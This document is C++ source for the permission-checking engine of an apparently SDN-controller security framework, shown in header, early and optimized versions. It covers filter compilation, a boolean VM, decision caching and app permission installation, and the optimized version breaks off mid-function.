#include <shared_mutex>
#include <string>
#include <vector>

#include "core/perm/api_call.h"
#include "core/perm/filter.h"
#include "core/perm/permission.h"

namespace sdnshield::engine {

/// The outcome of a permission check.
struct Decision {
  bool allowed = false;
  /// Populated on deny: which token was missing or which filter failed.
  std::string reason;

  static Decision allow() { return Decision{true, {}}; }
  static Decision deny(std::string reason) {
    return Decision{false, std::move(reason)};
  }
};

/// A permission set compiled to per-token postfix filter programs.
class CompiledPermissions {
 public:
  explicit CompiledPermissions(const perm::PermissionSet& permissions);

  /// Evaluates the call against the compiled program. The required token
  /// must be granted and its filter program must label the call true.
  Decision check(const perm::ApiCall& call) const;

  bool hasToken(perm::Token token) const;

  /// First physical-topology filter granted on visible_topology, if any —
  /// the deputy uses it to project topology reads.
  const perm::PhysicalTopologyFilter* topologyProjection() const {
    return topologyProjection_.get();
  }

  /// Virtual-topology members when a VIRTUAL filter is granted on
  /// visible_topology (empty set = SINGLE_BIG_SWITCH over everything).
  const std::optional<std::set<of::DatapathId>>& virtualTopology() const {
    return virtualMembers_;
  }

  /// Source permissions (for introspection / reporting).
  const perm::PermissionSet& source() const { return source_; }

 private:
  enum class OpCode : std::uint8_t { kPush, kAnd, kOr, kNot };
  struct Instr {
    OpCode op = OpCode::kPush;
    std::uint32_t filterIndex = 0;  // kPush.
  };
  struct TokenProgram {
    bool granted = false;
    std::vector<Instr> code;  // Empty = unrestricted grant.
  };

  void compileExpr(const perm::FilterExprPtr& expr, TokenProgram& program);
  bool run(const TokenProgram& program, const perm::ApiCall& call) const;

  perm::PermissionSet source_;
  TokenProgram programs_[16];  // Indexed by Token enum value.
  std::vector<perm::FilterPtr> filters_;
  std::shared_ptr<const perm::PhysicalTopologyFilter> topologyProjection_;
  std::optional<std::set<of::DatapathId>> virtualMembers_;
};

/// Registry of compiled permissions per app, the controller-wide mediator.
/// The kernel app (id 0) is always fully privileged.
class PermissionEngine {
 public:
  /// Compiles and installs the permissions of an app (at app load time).
  void install(of::AppId app, const perm::PermissionSet& permissions);
  void uninstall(of::AppId app);

  /// Checks one API call. Unknown apps are denied everything.
  Decision check(const perm::ApiCall& call) const;

  /// Compiled permissions of an app (nullptr when not installed).
  std::shared_ptr<const CompiledPermissions> compiled(of::AppId app) const;

 private:
  mutable std::shared_mutex mutex_;
  std::map<of::AppId, std::shared_ptr<const CompiledPermissions>> apps_;
};

}  // namespace sdnshield::engine
