#include "core/engine/permission_engine.h"

#include <mutex>

namespace sdnshield::engine {

namespace {

std::size_t tokenIndex(perm::Token token) {
  return static_cast<std::size_t>(token);
}

/// Scans positive positions of a filter expression for topology filters.
void scanTopologyFilters(
    const perm::FilterExprPtr& expr,
    std::shared_ptr<const perm::PhysicalTopologyFilter>& physical,
    std::optional<std::set<of::DatapathId>>& virtualMembers) {
  using Op = perm::FilterExpr::Op;
  switch (expr->op()) {
    case Op::kSingleton: {
      const perm::FilterPtr& filter = expr->filter();
      if (!physical) {
        if (auto topo =
                std::dynamic_pointer_cast<const perm::PhysicalTopologyFilter>(
                    filter)) {
          physical = topo;
        }
      }
      if (!virtualMembers) {
        if (const auto* vt = dynamic_cast<const perm::VirtualTopologyFilter*>(
                filter.get())) {
          virtualMembers = vt->members();
        }
      }
      return;
    }
    case Op::kAnd:
    case Op::kOr:
      scanTopologyFilters(expr->lhs(), physical, virtualMembers);
      scanTopologyFilters(expr->rhs(), physical, virtualMembers);
      return;
    case Op::kNot:
      return;  // Negated topology filters are not projection hints.
  }
}

}  // namespace

CompiledPermissions::CompiledPermissions(
    const perm::PermissionSet& permissions)
    : source_(permissions) {
  for (const perm::Permission& grant : permissions.permissions()) {
    TokenProgram& program = programs_[tokenIndex(grant.token)];
    program.granted = true;
    if (grant.filter) compileExpr(grant.filter, program);
    if (grant.token == perm::Token::kVisibleTopology && grant.filter) {
      scanTopologyFilters(grant.filter, topologyProjection_, virtualMembers_);
    }
  }
}

void CompiledPermissions::compileExpr(const perm::FilterExprPtr& expr,
                                      TokenProgram& program) {
  using Op = perm::FilterExpr::Op;
  switch (expr->op()) {
    case Op::kSingleton: {
      program.code.push_back(
          Instr{OpCode::kPush, static_cast<std::uint32_t>(filters_.size())});
      filters_.push_back(expr->filter());
      return;
    }
    case Op::kAnd:
      compileExpr(expr->lhs(), program);
      compileExpr(expr->rhs(), program);
      program.code.push_back(Instr{OpCode::kAnd, 0});
      return;
    case Op::kOr:
      compileExpr(expr->lhs(), program);
      compileExpr(expr->rhs(), program);
      program.code.push_back(Instr{OpCode::kOr, 0});
      return;
    case Op::kNot:
      compileExpr(expr->lhs(), program);
      program.code.push_back(Instr{OpCode::kNot, 0});
      return;
  }
}

bool CompiledPermissions::run(const TokenProgram& program,
                              const perm::ApiCall& call) const {
  if (program.code.empty()) return true;  // Unrestricted grant.
  // Postfix evaluation over a small fixed stack: manifests are shallow, and
  // depth is bounded by the expression tree height at compile time.
  bool stack[64];
  std::size_t top = 0;
  for (const Instr& instr : program.code) {
    switch (instr.op) {
      case OpCode::kPush:
        stack[top++] = filters_[instr.filterIndex]->evaluate(call);
        break;
      case OpCode::kAnd: {
        bool rhs = stack[--top];
        stack[top - 1] = stack[top - 1] && rhs;
        break;
      }
      case OpCode::kOr: {
        bool rhs = stack[--top];
        stack[top - 1] = stack[top - 1] || rhs;
        break;
      }
      case OpCode::kNot:
        stack[top - 1] = !stack[top - 1];
        break;
    }
  }
  return stack[0];
}

Decision CompiledPermissions::check(const perm::ApiCall& call) const {
  perm::Token token = perm::requiredToken(call.type);
  const TokenProgram& program = programs_[tokenIndex(token)];
  if (!program.granted) {
    return Decision::deny("missing permission token '" +
                          perm::toString(token) + "'");
  }
  if (!run(program, call)) {
    return Decision::deny("permission filter on '" + perm::toString(token) +
                          "' rejected " + call.toString());
  }
  return Decision::allow();
}

bool CompiledPermissions::hasToken(perm::Token token) const {
  return programs_[tokenIndex(token)].granted;
}

void PermissionEngine::install(of::AppId app,
                               const perm::PermissionSet& permissions) {
  auto compiled = std::make_shared<const CompiledPermissions>(permissions);
  std::unique_lock lock(mutex_);
  apps_[app] = std::move(compiled);
}

void PermissionEngine::uninstall(of::AppId app) {
  std::unique_lock lock(mutex_);
  apps_.erase(app);
}

Decision PermissionEngine::check(const perm::ApiCall& call) const {
  if (call.app == of::kKernelAppId) return Decision::allow();
  std::shared_ptr<const CompiledPermissions> compiled;
  {
    std::shared_lock lock(mutex_);
    auto it = apps_.find(call.app);
    if (it != apps_.end()) compiled = it->second;
  }
  if (!compiled) {
    return Decision::deny("app " + std::to_string(call.app) +
                          " has no installed permissions");
  }
  return compiled->check(call);
}

std::shared_ptr<const CompiledPermissions> PermissionEngine::compiled(
    of::AppId app) const {
  std::shared_lock lock(mutex_);
  auto it = apps_.find(app);
  return it == apps_.end() ? nullptr : it->second;
}

}  // namespace sdnshield::engine
