#include "core/engine/permission_engine.h"

#include <algorithm>
#include <cstring>
#include <stdexcept>
#include <unordered_map>
#include <utility>

#include "core/perm/interner.h"
#include "obs/metrics.h"

namespace sdnshield::engine {

namespace {

std::size_t tokenIndex(perm::Token token) {
  return static_cast<std::size_t>(token);
}

/// Scans positive positions of a filter expression for topology filters.
void scanTopologyFilters(
    const perm::FilterExprPtr& expr,
    std::shared_ptr<const perm::PhysicalTopologyFilter>& physical,
    std::optional<std::set<of::DatapathId>>& virtualMembers) {
  using Op = perm::FilterExpr::Op;
  switch (expr->op()) {
    case Op::kSingleton: {
      const perm::FilterPtr& filter = expr->filter();
      if (!physical) {
        if (auto topo =
                std::dynamic_pointer_cast<const perm::PhysicalTopologyFilter>(
                    filter)) {
          physical = topo;
        }
      }
      if (!virtualMembers) {
        if (const auto* vt = dynamic_cast<const perm::VirtualTopologyFilter*>(
                filter.get())) {
          virtualMembers = vt->members();
        }
      }
      return;
    }
    case Op::kAnd:
    case Op::kOr:
      scanTopologyFilters(expr->lhs(), physical, virtualMembers);
      scanTopologyFilters(expr->rhs(), physical, virtualMembers);
      return;
    case Op::kNot:
      return;  // Negated topology filters are not projection hints.
  }
}

// --- expression optimizer ---------------------------------------------------

/// Maximum nesting depth, computed without recursion so that adversarially
/// deep trees cannot overflow the C++ stack before we reject them.
std::size_t expressionDepth(const perm::FilterExprPtr& root) {
  using Op = perm::FilterExpr::Op;
  std::size_t maxDepth = 0;
  std::vector<std::pair<const perm::FilterExpr*, std::size_t>> work;
  work.emplace_back(root.get(), 1);
  while (!work.empty()) {
    auto [expr, depth] = work.back();
    work.pop_back();
    maxDepth = std::max(maxDepth, depth);
    switch (expr->op()) {
      case Op::kSingleton:
        break;
      case Op::kAnd:
      case Op::kOr:
        work.emplace_back(expr->lhs().get(), depth + 1);
        work.emplace_back(expr->rhs().get(), depth + 1);
        break;
      case Op::kNot:
        work.emplace_back(expr->lhs().get(), depth + 1);
        break;
    }
  }
  return maxDepth;
}

/// Filters whose label is independent of the call: unresolved stubs fail
/// closed, virtual-topology markers always pass (translation happens in the
/// deputy, not here).
std::optional<bool> constantValue(const perm::Filter& filter) {
  switch (filter.kind()) {
    case perm::FilterKind::kStub:
      return false;
    case perm::FilterKind::kVirtualTopology:
      return true;
    default:
      return std::nullopt;
  }
}

/// Evaluation-cost rank used for short-circuit reordering: cheap
/// exact-match filters run before action/predicate scans, wildcard mask
/// tests and topology set lookups; composite subtrees run last.
int filterCostRank(const perm::Filter& filter) {
  switch (filter.kind()) {
    case perm::FilterKind::kOwnership:
    case perm::FilterKind::kMaxPriority:
    case perm::FilterKind::kMinPriority:
    case perm::FilterKind::kTableSize:
    case perm::FilterKind::kPktOut:
    case perm::FilterKind::kStatistics:
    case perm::FilterKind::kCallback:
      return 0;  // One or two integer compares.
    case perm::FilterKind::kAction:
    case perm::FilterKind::kFieldPredicate:
      return 1;  // Optional-field lookups / short scans.
    case perm::FilterKind::kWildcard:
      return 2;  // Mask arithmetic over the match.
    case perm::FilterKind::kPhysicalTopology:
      return 3;  // Set lookups over switches and links.
    case perm::FilterKind::kVirtualTopology:
    case perm::FilterKind::kStub:
      return 0;  // Constant-folded away; rank is moot.
  }
  return 3;
}

/// An optimized expression: either a known constant or a residual tree.
struct OptExpr {
  std::optional<bool> constant;
  perm::FilterExprPtr expr;  // Set iff !constant.

  static OptExpr constval(bool value) { return OptExpr{value, nullptr}; }
  static OptExpr tree(perm::FilterExprPtr expr) {
    return OptExpr{std::nullopt, std::move(expr)};
  }
};

int exprCostRank(const perm::FilterExprPtr& expr) {
  using Op = perm::FilterExpr::Op;
  switch (expr->op()) {
    case Op::kSingleton:
      return filterCostRank(*expr->filter());
    case Op::kNot:
      return exprCostRank(expr->lhs());
    case Op::kAnd:
    case Op::kOr:
      // Composite subtrees go last; deeper ones later still.
      return 8 + static_cast<int>(std::min<std::size_t>(expr->leafCount(), 64));
  }
  return 8;
}

OptExpr optimizeExpr(const perm::FilterExprPtr& expr);

/// Flattens a run of same-op nodes into operand list form, optimizing each
/// operand. `identity` is the op's neutral constant (true for AND, false
/// for OR); hitting the absorbing constant short-circuits the whole chain.
bool gatherOperands(const perm::FilterExprPtr& expr, perm::FilterExpr::Op op,
                    bool identity, std::vector<perm::FilterExprPtr>& out) {
  if (expr->op() == op) {
    return gatherOperands(expr->lhs(), op, identity, out) &&
           gatherOperands(expr->rhs(), op, identity, out);
  }
  OptExpr opt = optimizeExpr(expr);
  if (opt.constant) {
    if (*opt.constant == identity) return true;  // Neutral: drop operand.
    return false;                                // Absorbing: chain decided.
  }
  out.push_back(std::move(opt.expr));
  return true;
}

/// Structural identity key of an optimized subtree: its canonical
/// (hash-consed) pointer. Structurally equal subtrees intern to the same
/// node, so dedup and complement detection are pointer-map lookups — the
/// previous toString-keyed map dominated compile time (20–60× regression on
/// BM_ManifestCompilation). Only runs at compile time.
const perm::FilterExpr* structuralKey(const perm::FilterExprPtr& expr) {
  // The interner keeps the canonical node alive forever; the raw pointer
  // outlives this map.
  return perm::internExpr(expr).get();
}

OptExpr optimizeChain(const perm::FilterExprPtr& expr,
                      perm::FilterExpr::Op op) {
  using Op = perm::FilterExpr::Op;
  bool isAnd = op == Op::kAnd;
  bool identity = isAnd;  // true AND x == x; false OR x == x.

  std::vector<perm::FilterExprPtr> operands;
  if (!gatherOperands(expr, op, identity, operands)) {
    return OptExpr::constval(!identity);  // Absorbing constant seen.
  }

  // Duplicate-operand elimination and complement detection: `x OP x == x`,
  // and `x AND NOT x` / `x OR NOT x` collapse to the absorbing constant.
  std::unordered_map<const perm::FilterExpr*, bool> seen;  // -> kNot polarity
  std::vector<perm::FilterExprPtr> unique;
  unique.reserve(operands.size());
  for (perm::FilterExprPtr& operand : operands) {
    bool negatedForm = operand->op() == Op::kNot;
    const perm::FilterExpr* key =
        structuralKey(negatedForm ? operand->lhs() : operand);
    auto [it, inserted] = seen.emplace(key, negatedForm);
    if (inserted) {
      unique.push_back(std::move(operand));
      continue;
    }
    if (it->second != negatedForm) {
      return OptExpr::constval(!identity);  // x and NOT x both present.
    }
    // Exact duplicate: drop.
  }

  if (unique.empty()) return OptExpr::constval(identity);
  if (unique.size() == 1) return OptExpr::tree(std::move(unique[0]));

  // Short-circuit reordering: cheap filters first (stable to keep the
  // original order among equal-cost operands deterministic).
  std::stable_sort(unique.begin(), unique.end(),
                   [](const perm::FilterExprPtr& a,
                      const perm::FilterExprPtr& b) {
                     return exprCostRank(a) < exprCostRank(b);
                   });

  // Rebuild as a balanced tree: depth O(log n), so long parser-built
  // chains stay far below kMaxProgramDepth.
  std::vector<perm::FilterExprPtr> level = std::move(unique);
  while (level.size() > 1) {
    std::vector<perm::FilterExprPtr> next;
    next.reserve((level.size() + 1) / 2);
    for (std::size_t i = 0; i + 1 < level.size(); i += 2) {
      next.push_back(isAnd ? perm::FilterExpr::conj(level[i], level[i + 1])
                           : perm::FilterExpr::disj(level[i], level[i + 1]));
    }
    if (level.size() % 2 == 1) next.push_back(level.back());
    level = std::move(next);
  }
  return OptExpr::tree(std::move(level[0]));
}

OptExpr optimizeExpr(const perm::FilterExprPtr& expr) {
  using Op = perm::FilterExpr::Op;
  switch (expr->op()) {
    case Op::kSingleton: {
      perm::FilterPtr interned =
          perm::FilterInterner::global().intern(expr->filter());
      if (std::optional<bool> constant = constantValue(*interned)) {
        return OptExpr::constval(*constant);
      }
      if (interned.get() == expr->filter().get()) return OptExpr::tree(expr);
      return OptExpr::tree(perm::FilterExpr::singleton(std::move(interned)));
    }
    case Op::kNot: {
      OptExpr operand = optimizeExpr(expr->lhs());
      if (operand.constant) return OptExpr::constval(!*operand.constant);
      if (operand.expr->op() == Op::kNot) {
        return OptExpr::tree(operand.expr->lhs());  // NOT NOT x == x.
      }
      return OptExpr::tree(perm::FilterExpr::negate(std::move(operand.expr)));
    }
    case Op::kAnd:
    case Op::kOr:
      return optimizeChain(expr, expr->op());
  }
  return OptExpr::tree(expr);
}

std::uint64_t nextInstanceId() {
  static std::atomic<std::uint64_t> counter{0};
  return counter.fetch_add(1, std::memory_order_relaxed) + 1;
}

// --- decision memo cache ----------------------------------------------------

/// Raw-pointer serialization cursor: one memcpy + pointer bump per field,
/// no per-append capacity/size bookkeeping (std::string::append showed up
/// as the dominant cost of the memoized hit path). The caller sizes the
/// buffer from memoKeyBound() before writing.
struct KeyCursor {
  char* p;

  void raw(const void* data, std::size_t size) {
    std::memcpy(p, data, size);
    p += size;
  }
  template <typename T>
  void val(T value) {
    static_assert(std::is_trivially_copyable_v<T>);
    raw(&value, sizeof(value));
  }
  template <typename T, typename Encode>
  void opt(const std::optional<T>& value, Encode encode) {
    *p++ = value ? '\1' : '\0';
    if (value) encode(*value);
  }
};

/// Upper bound on the encoded size of @p call (fixed-width fields padded to
/// their presence byte + payload; variable lists by element count).
std::size_t memoKeyBound(const perm::ApiCall& call) {
  std::size_t bound = 160;  // Every fixed/optional scalar field, padded.
  if (call.actions) bound += call.actions->size() * 24;
  bound += call.topoSwitches.size() * 8 + call.topoLinks.size() * 16;
  if (call.path) bound += call.path->size();
  return bound;
}

/// Serializes every attribute a filter can inspect (plus the caller
/// identity, which deny reasons embed) into a canonical byte string.
/// Equal keys <=> the engine's decision and reason are identical.
std::size_t buildMemoKey(const perm::ApiCall& call, char* base) {
  KeyCursor out{base};
  out.val(static_cast<std::uint8_t>(call.type));
  out.val(call.app);
  out.opt(call.dpid, [&](of::DatapathId v) { out.val(v); });
  out.opt(call.match, [&](const of::FlowMatch& m) {
    out.opt(m.inPort, [&](of::PortNo v) { out.val(v); });
    out.opt(m.ethSrc,
            [&](const of::MacAddress& v) { out.val(v.toUint64()); });
    out.opt(m.ethDst,
            [&](const of::MacAddress& v) { out.val(v.toUint64()); });
    out.opt(m.ethType, [&](std::uint16_t v) { out.val(v); });
    out.opt(m.vlanId, [&](std::uint16_t v) { out.val(v); });
    auto maskedIp = [&](const of::MaskedIpv4& ip) {
      // Canonical form: (mask, masked value) — MaskedIpv4 equality ignores
      // value bits outside the mask.
      out.val(ip.mask.value());
      out.val(ip.value.value() & ip.mask.value());
    };
    out.opt(m.ipSrc, maskedIp);
    out.opt(m.ipDst, maskedIp);
    out.opt(m.ipProto, [&](std::uint8_t v) { out.val(v); });
    out.opt(m.tpSrc, [&](std::uint16_t v) { out.val(v); });
    out.opt(m.tpDst, [&](std::uint16_t v) { out.val(v); });
  });
  out.opt(call.actions, [&](const of::ActionList& actions) {
    out.val(static_cast<std::uint32_t>(actions.size()));
    for (const of::Action& action : actions) {
      out.val(static_cast<std::uint8_t>(action.index()));
      if (const auto* output = std::get_if<of::OutputAction>(&action)) {
        out.val(output->port);
      } else if (const auto* set = std::get_if<of::SetFieldAction>(&action)) {
        out.val(static_cast<std::uint8_t>(set->field));
        out.val(set->intValue);
        out.val(set->macValue.toUint64());
        out.val(set->ipValue.value());
      }
    }
  });
  out.opt(call.priority, [&](std::uint16_t v) { out.val(v); });
  out.val(static_cast<std::uint8_t>(call.ownFlow));
  out.opt(call.ruleCountAfter,
          [&](std::size_t v) { out.val(static_cast<std::uint64_t>(v)); });
  out.opt(call.statsLevel, [&](of::StatsLevel v) {
    out.val(static_cast<std::uint8_t>(v));
  });
  out.val(static_cast<std::uint8_t>(call.pktOutFromPacketIn));
  out.opt(call.callbackOp, [&](perm::CallbackOp v) {
    out.val(static_cast<std::uint8_t>(v));
  });
  out.val(static_cast<std::uint32_t>(call.topoSwitches.size()));
  for (of::DatapathId dpid : call.topoSwitches) out.val(dpid);
  out.val(static_cast<std::uint32_t>(call.topoLinks.size()));
  for (const auto& [a, b] : call.topoLinks) {
    out.val(a);
    out.val(b);
  }
  out.opt(call.remoteIp, [&](of::Ipv4Address v) { out.val(v.value()); });
  out.opt(call.remotePort, [&](std::uint16_t v) { out.val(v); });
  out.opt(call.path, [&](const std::string& path) {
    out.val(static_cast<std::uint32_t>(path.size()));
    out.raw(path.data(), path.size());
  });
  return static_cast<std::size_t>(out.p - base);
}

/// FNV-style hash over 8-byte words (byte-at-a-time FNV costs one serial
/// multiply per byte — a ~50-entry key spent more time hashing than
/// serializing). Slot selection only; lookups always memcmp the exact key.
std::uint64_t hashKey(const char* data, std::size_t size) {
  std::uint64_t hash = 0xcbf29ce484222325ULL ^
                       (size * 0x100000001b3ULL);
  while (size >= 8) {
    std::uint64_t chunk;
    std::memcpy(&chunk, data, 8);
    hash = (hash ^ chunk) * 0x100000001b3ULL;
    data += 8;
    size -= 8;
  }
  if (size > 0) {
    std::uint64_t tail = 0;
    std::memcpy(&tail, data, size);
    hash = (hash ^ tail) * 0x100000001b3ULL;
  }
  hash ^= hash >> 32;
  return hash;
}

struct MemoEntry {
  std::uint64_t compiledId = 0;  ///< 0 = slot empty.
  std::uint64_t hash = 0;
  std::string key;
  Decision decision;
};

constexpr std::size_t kMemoSlots = 4096;  // Power of two; ~320 KiB/thread.

struct ThreadMemo {
  std::vector<MemoEntry> slots{kMemoSlots};
  std::vector<char> scratch;  ///< Reusable key buffer, grown on demand.

  // Last (engine, version, app) -> compiled resolution. Valid while the
  // engine's version is unchanged; the shared_ptr keeps the compiled set
  // alive even if the app is concurrently uninstalled or the engine
  // destroyed, so the raw pointer handed out below never dangles.
  std::uint64_t engineId = 0;
  std::uint64_t engineVersion = 0;
  of::AppId appId = 0;
  std::shared_ptr<const CompiledPermissions> compiled;
};

ThreadMemo& threadMemo() {
  thread_local ThreadMemo memo;
  return memo;
}

// Registry-backed hot-path counters (the caches stay thread-local; the
// registry aggregates across threads, so harnesses can report hit rates
// for checks that ran on deputy threads). Namespace-scope handles: slot
// resolution happens once at dynamic init, so the hot path pays only the
// shard write — no function-local-static guard load.
const obs::Counter g_memoHit =
    obs::Registry::global().counter("engine.check.memo_hit");
const obs::Counter g_memoMiss =
    obs::Registry::global().counter("engine.check.memo_miss");
const obs::Counter g_checkDenied =
    obs::Registry::global().counter("engine.check.denied");
const obs::Counter g_vmRuns =
    obs::Registry::global().counter("engine.check.vm_runs");
const obs::Counter g_vmSteps =
    obs::Registry::global().counter("engine.check.vm_steps");
const obs::Counter g_compileCacheHit =
    obs::Registry::global().counter("engine.compile.cache_hit");
const obs::Counter g_compileCacheMiss =
    obs::Registry::global().counter("engine.compile.cache_miss");
const obs::Counter g_compileCacheEvict =
    obs::Registry::global().counter("engine.compile.cache_evict");

// memoStats()/resetMemoStats() keep their pre-obs semantics (counts since
// the last reset) by remembering baselines at reset time: the registry
// counters themselves stay monotonic.
std::atomic<std::uint64_t> g_memoHitBase{0};
std::atomic<std::uint64_t> g_memoMissBase{0};

}  // namespace

// --- CompiledPermissions ----------------------------------------------------

CompiledPermissions::CompiledPermissions(
    const perm::PermissionSet& permissions)
    : source_(permissions), instanceId_(nextInstanceId()) {
  for (const perm::Permission& grant : permissions.permissions()) {
    TokenProgram& program = programs_[tokenIndex(grant.token)];
    program.granted = true;
    if (!grant.filter) continue;
    if (std::size_t depth = expressionDepth(grant.filter);
        depth > kMaxExpressionDepth) {
      throw std::length_error(
          "permission filter for '" + perm::toString(grant.token) +
          "' is nested " + std::to_string(depth) +
          " levels deep; the compiler accepts at most " +
          std::to_string(kMaxExpressionDepth));
    }
    OptExpr optimized = optimizeExpr(grant.filter);
    if (optimized.constant) {
      // Always-true folds to the unrestricted grant (empty program);
      // always-false (e.g. an unresolved stub) compiles to a single deny.
      if (!*optimized.constant) {
        program.code.push_back(Instr{OpCode::kConst, 0});
      }
    } else {
      if (std::size_t depth = expressionDepth(optimized.expr);
          depth > kMaxProgramDepth) {
        throw std::length_error(
            "permission filter for '" + perm::toString(grant.token) +
            "' still nests " + std::to_string(depth) +
            " levels after optimization; compiled programs are bounded at " +
            std::to_string(kMaxProgramDepth) + " levels");
      }
      compileExpr(optimized.expr, program);
    }
    if (grant.token == perm::Token::kVisibleTopology) {
      scanTopologyFilters(grant.filter, topologyProjection_, virtualMembers_);
    }
  }
}

std::uint32_t CompiledPermissions::filterSlot(const perm::FilterPtr& filter) {
  auto [it, inserted] = filterSlots_.try_emplace(
      filter.get(), static_cast<std::uint32_t>(filters_.size()));
  if (inserted) filters_.push_back(filter);
  return it->second;
}

void CompiledPermissions::compileExpr(const perm::FilterExprPtr& expr,
                                      TokenProgram& program) {
  using Op = perm::FilterExpr::Op;
  switch (expr->op()) {
    case Op::kSingleton:
      program.code.push_back(Instr{OpCode::kPush, filterSlot(expr->filter())});
      return;
    case Op::kAnd:
    case Op::kOr: {
      compileExpr(expr->lhs(), program);
      std::size_t jumpAt = program.code.size();
      program.code.push_back(Instr{expr->op() == Op::kAnd
                                       ? OpCode::kJumpIfFalse
                                       : OpCode::kJumpIfTrue,
                                   0});
      compileExpr(expr->rhs(), program);
      program.code[jumpAt].arg =
          static_cast<std::uint32_t>(program.code.size());
      return;
    }
    case Op::kNot:
      compileExpr(expr->lhs(), program);
      program.code.push_back(Instr{OpCode::kNot, 0});
      return;
  }
}

bool CompiledPermissions::run(const TokenProgram& program,
                              const perm::ApiCall& call) const {
  if (program.code.empty()) return true;  // Unrestricted grant.
  // Single-register branch VM: short-circuit jumps mean a binary boolean
  // expression never holds more than one intermediate value, so there is no
  // evaluation stack to bound (the seed engine's fixed 64-slot stack could
  // overflow on deep right-leaning expressions).
  bool reg = false;
  const Instr* code = program.code.data();
  std::size_t size = program.code.size();
  std::uint64_t steps = 0;  // Executed instructions (obs; local until exit).
  for (std::size_t pc = 0; pc < size;) {
    const Instr& instr = code[pc];
    ++steps;
    switch (instr.op) {
      case OpCode::kPush:
        reg = filters_[instr.arg]->evaluate(call);
        ++pc;
        break;
      case OpCode::kNot:
        reg = !reg;
        ++pc;
        break;
      case OpCode::kJumpIfFalse:
        pc = reg ? pc + 1 : instr.arg;
        break;
      case OpCode::kJumpIfTrue:
        pc = reg ? instr.arg : pc + 1;
        break;
      case OpCode::kConst:
        reg = instr.arg != 0;
        ++pc;
        break;
    }
  }
  g_vmRuns.add(1);
  g_vmSteps.add(steps);
  return reg;
}

Decision CompiledPermissions::check(const perm::ApiCall& call) const {
  perm::Token token = perm::requiredToken(call.type);
  const TokenProgram& program = programs_[tokenIndex(token)];
  if (!program.granted) {
    return Decision::deny("missing permission token '" +
                          perm::toString(token) + "'");
  }
  if (!run(program, call)) {
    return Decision::deny("permission filter on '" + perm::toString(token) +
                          "' rejected " + call.toString());
  }
  return Decision::allow();
}

bool CompiledPermissions::hasToken(perm::Token token) const {
  return programs_[tokenIndex(token)].granted;
}

std::size_t CompiledPermissions::programLength(perm::Token token) const {
  return programs_[tokenIndex(token)].code.size();
}

// --- CompiledProgramCache ---------------------------------------------------

CompiledProgramCache& CompiledProgramCache::global() {
  static CompiledProgramCache* cache =
      new CompiledProgramCache();  // Never destroyed.
  return *cache;
}

std::shared_ptr<const CompiledPermissions> CompiledProgramCache::obtain(
    const perm::PermissionSet& permissions) {
  // toString is the canonical identity: PermissionSet keeps tokens in a
  // std::map, so equal sets print identically regardless of build order.
  std::string key = permissions.toString();
  {
    std::lock_guard lock(mutex_);
    if (enabled_) {
      if (auto it = entries_.find(key); it != entries_.end()) {
        ++hits_;
        g_compileCacheHit.add(1);
        // LRU touch: an obtained program is hot and must survive an insert
        // storm of cold sets.
        lru_.splice(lru_.begin(), lru_, it->second.recency);
        return it->second.program;
      }
    }
  }
  // Compile outside the lock — the expensive part, and it can throw.
  auto compiled = std::make_shared<const CompiledPermissions>(permissions);
  std::lock_guard lock(mutex_);
  ++misses_;
  g_compileCacheMiss.add(1);
  if (!enabled_) return compiled;
  if (auto it = entries_.find(key); it != entries_.end()) {
    // Lost a compile race: prefer the incumbent so every caller shares one
    // instanceId (keeps thread memos hot).
    lru_.splice(lru_.begin(), lru_, it->second.recency);
    return it->second.program;
  }
  lru_.push_front(key);
  entries_.emplace(std::move(key), Entry{compiled, lru_.begin()});
  evictToCapacityLocked();
  return compiled;
}

void CompiledProgramCache::evictToCapacityLocked() {
  while (entries_.size() > maxEntries_ && !lru_.empty()) {
    entries_.erase(lru_.back());
    lru_.pop_back();
    ++evictions_;
    g_compileCacheEvict.add(1);
  }
}

CompiledProgramCache::Stats CompiledProgramCache::stats() const {
  std::lock_guard lock(mutex_);
  return Stats{hits_, misses_, evictions_, entries_.size()};
}

void CompiledProgramCache::clear() {
  std::lock_guard lock(mutex_);
  entries_.clear();
  lru_.clear();
}

void CompiledProgramCache::setEnabled(bool enabled) {
  std::lock_guard lock(mutex_);
  enabled_ = enabled;
  if (!enabled) {
    entries_.clear();
    lru_.clear();
  }
}

bool CompiledProgramCache::enabled() const {
  std::lock_guard lock(mutex_);
  return enabled_;
}

void CompiledProgramCache::setMaxEntries(std::size_t maxEntries) {
  std::lock_guard lock(mutex_);
  maxEntries_ = maxEntries == 0 ? 1 : maxEntries;
  evictToCapacityLocked();
}

std::size_t CompiledProgramCache::maxEntries() const {
  std::lock_guard lock(mutex_);
  return maxEntries_;
}

// --- PermissionEngine -------------------------------------------------------

std::uint64_t nextEngineId() {
  static std::atomic<std::uint64_t> counter{0};
  return counter.fetch_add(1, std::memory_order_relaxed) + 1;
}

PermissionEngine::PermissionEngine()
    : apps_(std::make_shared<const AppMap>()), engineId_(nextEngineId()) {}

void PermissionEngine::install(of::AppId app,
                               const perm::PermissionSet& permissions) {
  auto compiled = CompiledProgramCache::global().obtain(permissions);
  std::lock_guard lock(writeMutex_);
  auto next = std::make_shared<AppMap>(*snapshot());
  (*next)[app] = std::move(compiled);
  {
    std::lock_guard snapLock(snapshotMutex_);
    apps_ = std::move(next);
  }
  version_.fetch_add(1, std::memory_order_release);
}

void PermissionEngine::installAll(
    const std::vector<std::pair<of::AppId, perm::PermissionSet>>& grants) {
  // Compile every set before taking any lock: compilation can throw
  // (depth bounds) and is the expensive part; a failure here leaves the
  // table untouched, and readers never wait on a compiler.
  std::vector<std::pair<of::AppId, std::shared_ptr<const CompiledPermissions>>>
      compiled;
  compiled.reserve(grants.size());
  for (const auto& [app, permissions] : grants) {
    // Shared compiled-program cache: apps with identical grants (the common
    // case after a market-wide policy push) compile once and share the
    // program — and re-pushing an unchanged set is a pure lookup.
    compiled.emplace_back(app, CompiledProgramCache::global().obtain(permissions));
  }
  installAll(std::move(compiled));
}

void PermissionEngine::installAll(
    std::vector<std::pair<of::AppId, std::shared_ptr<const CompiledPermissions>>>
        programs) {
  {
    std::lock_guard lock(writeMutex_);
    auto next = std::make_shared<AppMap>(*snapshot());
    for (auto& [app, set] : programs) (*next)[app] = std::move(set);
    {
      std::lock_guard snapLock(snapshotMutex_);
      apps_ = std::move(next);
    }
    // One bump for the whole batch: the new epoch carries every new grant.
    version_.fetch_add(1, std::memory_order_release);
  }
  // Publish fence, outside the write lock: the shard runtime barriers every
  // shard loop here so the epoch handover is ordered against all shard-local
  // checks (DESIGN.md §16). Concurrent installAll callers may interleave
  // fences, which is fine — each fence is ordered after its own bump.
  std::function<void()> fence;
